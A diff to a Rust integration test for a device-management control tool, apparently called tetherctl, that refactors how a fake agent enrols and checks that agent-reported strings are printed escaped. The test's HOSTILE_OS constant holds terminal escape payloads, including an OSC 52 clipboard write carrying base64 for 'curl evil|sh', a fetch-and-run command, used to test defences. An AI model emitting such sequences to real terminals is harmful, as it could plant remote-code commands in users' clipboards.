@@ -12,7 +12,6 @@ use common::fake_agent::{open_agent_handshake, rsa_identity};
 use common::{REPLY_DEADLINE, TestServer};
 use futures_util::{SinkExt, StreamExt};
 use serde_json::Value;
-use tether_common::ids::GroupId;
 use tokio::io::AsyncWriteExt;
 use tokio::process::Command;
 use tokio_tungstenite::tungstenite::Message;
@@ -459,15 +458,15 @@ async fn new_passwords_come_from_an_environment_variable_or_standard_input() {
 /// devices: an OSC 52 clipboard write, a colour change and a right-to-left override.
 const HOSTILE_OS: &str = "Evil\u{1b}]52;c;Y3VybCBldmlsfHNo\u{7}OS\u{1b}[31m \u{202e}lanimret";
 
-/// Enrols a scripted agent in `group` and has it report `os_name`; returns its socket (the
-/// device stays online while it is open) once the server has dealt with the report.
+/// Enrols a scripted agent with the group's enrolment key (`mesh_id`, the `.msh` MeshID) and has
+/// it report `os_name`; returns its socket (the device stays online while it is open) once the
+/// server has dealt with the report.
 async fn agent_reporting_os(
     server: &TestServer,
-    group: &GroupId,
+    mesh_id: [u8; 48],
     os_name: &str,
 ) -> common::fake_agent::AgentSocket {
     let (key, cert) = rsa_identity("hostile");
-    let mesh_id = group.to_bytes().expect("a group id is 48 bytes");
     let (mut handshake, mut ws) = open_agent_handshake(server, &key, cert, mesh_id, None).await;
     let deadline = tokio::time::Instant::now() + REPLY_DEADLINE;
     while !handshake.is_authenticated() {
@@ -511,9 +510,10 @@ async fn agent_reporting_os(
 async fn strings_from_agents_reach_the_terminal_escaped() {
     let server = server_with_admin().await;
     let ctl = Ctl::new(&server);
-    let group = ctl.json(&["addgroup", "Lab"]).await;
-    let group = GroupId(group["id"].as_str().unwrap().to_owned());
-    let _agent = agent_reporting_os(&server, &group, HOSTILE_OS).await;
+    ctl.json(&["addgroup", "Lab"]).await;
+    let msh = ctl.ok(&["agentconfig", "--group", "Lab"]).await;
+    let key = tether_common::msh::Msh::parse(&msh).unwrap().mesh_id;
+    let _agent = agent_reporting_os(&server, key, HOSTILE_OS).await;
 
     // Whatever the server made of the report (it may clean or refuse agents' strings itself),
     // tetherctl must print nothing raw; while the server stores them as sent, this is what
